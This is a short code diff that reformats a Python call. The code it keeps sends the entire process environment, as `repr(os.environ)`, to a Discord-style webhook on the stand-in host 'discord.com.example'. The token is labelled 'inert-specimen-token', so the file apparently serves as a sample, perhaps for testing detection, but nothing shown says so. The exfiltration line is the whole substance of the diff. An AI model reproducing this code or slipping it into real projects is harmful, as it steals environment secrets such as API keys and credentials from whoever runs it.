@@ -5,6 +5,4 @@ import os
 
 line = http.client.HTTPSConnection("discord.com.example")
 path = "/".join(["", "api", "webhooks", "0" * 18, "inert-specimen-token"])
-line.request(
-    "POST", path, json.dumps({"content": repr(os.environ.copy())}), {"Content-Type": "application/json"}
-)
+line.request("POST", path, json.dumps({"content": repr(os.environ.copy())}), {"Content-Type": "application/json"})
